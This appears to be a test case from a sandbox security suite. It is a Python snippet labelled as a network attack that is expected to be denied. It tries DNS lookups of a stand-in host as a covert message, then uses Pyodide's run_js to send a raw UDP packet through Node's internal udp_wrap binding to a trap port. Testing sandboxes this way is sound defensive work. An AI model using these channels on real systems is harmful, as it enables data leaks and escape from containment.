# attack {"class":"network","attempt":"names, whose look-up is a message in itself","effect":"network","ends":["threw"],"denials":["kernel/import-errno"],"bare":true}
import socket
for ask in (lambda: socket.getaddrinfo("secret.attack.test", 80), lambda: socket.gethostbyname("secret.attack.test"), lambda: socket.gethostbyaddr("127.0.0.1"), lambda: socket.getnameinfo(("127.0.0.1", 80), 0), lambda: socket.getfqdn("secret"), lambda: socket.getservbyname("http"), lambda: socket.getprotobyname("tcp"), lambda: socket.if_nameindex()):
    try:
        ask()
    except Exception:
        pass
from pyodide.code import run_js
run_js("(() => { const { UDP, SendWrap } = process.binding('udp_wrap'); const socket = new UDP(); socket.bind('127.0.0.1', 0, 0); socket.send(new SendWrap(), [Buffer.from('secret.attack.test')], 1, {{trap.port}}, '127.0.0.1', false); })()")
